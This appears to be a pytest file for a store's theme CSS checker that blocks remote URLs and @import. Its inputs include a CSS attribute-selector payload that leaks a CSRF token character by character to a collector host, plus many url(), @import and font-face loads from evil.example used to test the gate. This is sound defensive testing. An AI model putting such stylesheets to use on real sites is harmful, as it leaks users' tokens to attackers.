"""The URL gate against each way a theme got, or could get, a URL past it.

A theme may name no URL except an inline data: image or font, at any depth,
written directly or brought in through var(), attr() or env().
"""

import pytest

from store.checks import all_passed, run_checks
from store.management.commands.seed_demo import THEMES
from tests.factories.store import GOOD_CSS, GOOD_TOKENS

# The stylesheet that sent a buyer's CSRF token, a character per rule.
CSRF_EXFILTRATION = (
    ':root{--x0:"http://127.0.0.1:8104/c/a"}\n'
    'form:has(input[name=csrfmiddlewaretoken][value^="a"])'
    "{background-image:image-set(var(--x0) 1x)}\n"
)


def check(css, code="no_remote_urls"):
    report = run_checks(css=css, tokens=GOOD_TOKENS)
    return next(r for r in report if r.code == code)


def test_csrf_exfiltration_through_a_custom_property_fails():
    result = check(CSRF_EXFILTRATION)

    assert not result.passed
    assert result.measured == "2 external URL(s)"
    assert result.details[0].startswith('line 1: "http://127.0.0.1:8104/c/a"')
    assert result.details[1].startswith("line 2: image-set(var(--x0) 1x)")
    assert "data: URLs" in result.fix
    assert "Custom properties" in result.fix


def test_prefixed_image_set_fed_by_var_fails():
    css = ".a { background-image: -webkit-image-set(var(--x) 1x); }"
    assert not check(css).passed


def test_url_inside_starting_style_fails():
    css = "@starting-style { .x { background: url(http://evil.example/x); } }"
    assert not check(css).passed


@pytest.mark.parametrize(
    "css",
    [
        "@document url-prefix() { .x { background: url(http://evil.example/x); } }",
        "@made-up-rule { .x { background: url(http://evil.example/x); } }",
        "@font-face { font-family: X; .x { background: url(http://evil.example/x); } }",
    ],
)
def test_url_in_a_rule_inside_any_at_rule_fails(css):
    assert not check(css).passed


def test_url_nested_in_media_supports_layer_fails():
    css = (
        "@media screen { @supports (display: grid) { @layer base {\n"
        "  .x { background: url(http://evil.example/x); }\n"
        "} } }"
    )
    result = check(css)
    assert not result.passed
    assert result.details[0].startswith("line 2: url(http://evil.example/x)")


def test_url_in_a_nested_style_rule_fails():
    css = ".a { .b { background: url(http://evil.example/x); } }"
    assert not check(css).passed


@pytest.mark.parametrize(
    "css",
    [
        '@layer base { @import "https://evil.example/x.css"; }',
        "@media print { @import 'other.css'; }",
    ],
)
def test_import_inside_layer_or_media_fails(css):
    result = check(css, "no_import")
    assert not result.passed
    assert result.details == ["line 1"]


@pytest.mark.parametrize(
    "css",
    [
        "@font-face { font-family: X; src: url(https://evil.example/f.woff); }",
        "@font-face { font-family: X; src: local(x), url(//evil.example/f); }",
    ],
)
def test_remote_font_face_src_fails(css):
    assert not check(css).passed


def test_custom_property_holding_a_url_string_fails_even_unused():
    # Unused today, but one image-set(var(--next)) away from a request.
    assert not check(':root { --next: "https://evil.example/x"; }').passed


@pytest.mark.parametrize(
    "css",
    [
        r".a { background: \75 rl(http://evil.example/x); }",
        r':root { --x: "\68ttp://evil.example/x"; }',
    ],
)
def test_escaped_url_function_and_scheme_fail(css):
    result = check(css)
    assert not result.passed
    assert "http://evil.example/x" in result.details[0]


def test_uppercase_url_function_fails():
    assert not check(".a { background: URL(http://evil.example/x); }").passed


@pytest.mark.parametrize("url", ["//evil.example/x", r"\\\\evil.example/x"])
def test_protocol_relative_string_fails(url):
    assert not check(f':root {{ --x: "{url}"; }}').passed


def test_relative_string_in_image_set_fails():
    # A path names a request as well: only inline data: images are allowed.
    assert not check('.a { background: Image-Set("x.png" 1x); }').passed


def test_cross_fade_with_remote_url_fails():
    css = ".a { background: cross-fade(url(http://evil.example/x), red 50%); }"
    assert not check(css).passed


def test_unclosed_url_at_end_of_file_fails():
    assert not check(".a { background: url(http://evil.example/x").passed


def test_attr_typed_as_url_fails():
    css = ".a { --x: attr(data-x type(<url>)); }"
    result = check(css)
    assert not result.passed
    assert "attr() typed as a URL" in result.details[0]


def test_malformed_url_fails():
    assert not check(".a { background: url(http://evil(x)); }").passed


@pytest.mark.parametrize(
    "css",
    [
        ".a { background: url(data:image/png;base64,iVBORw0KGgo=); }",
        '.a { background: image-set("data:image/png;base64,AA" type("image/png") 1x,'
        " linear-gradient(red, blue) 2x); }",
        "@font-face { font-family: X;"
        ' src: url("data:font/woff2;base64,d09GMgAB") format("woff2"); }',
    ],
)
def test_inline_data_images_and_fonts_pass(css):
    assert check(css).passed


@pytest.mark.parametrize(
    "css",
    [
        '.next::after { content: "→"; }',
        'body { font-family: "Inter", system-ui; }',
        '.tip::before { content: "Note: "; }',
        ".card { color: var(--text); border-color: var(--accent); }",
    ],
)
def test_plain_strings_and_var_colours_pass(css):
    assert check(css).passed


def test_demo_themes_meant_to_pass_still_pass_every_check():
    for theme in THEMES:
        if theme["state"] == "changes_needed":
            continue
        report = run_checks(css=theme["css"], tokens=theme["tokens"])
        assert all_passed(report), theme["name"]
    assert all_passed(run_checks(css=GOOD_CSS, tokens=GOOD_TOKENS))


def test_absurdly_deep_nesting_fails_instead_of_crashing():
    report = {
        r.code: r
        for r in run_checks(css=".a { b: " + "f(" * 5000 + "}", tokens=GOOD_TOKENS)
    }
    assert not report["syntax"].passed
    assert not report["no_remote_urls"].passed
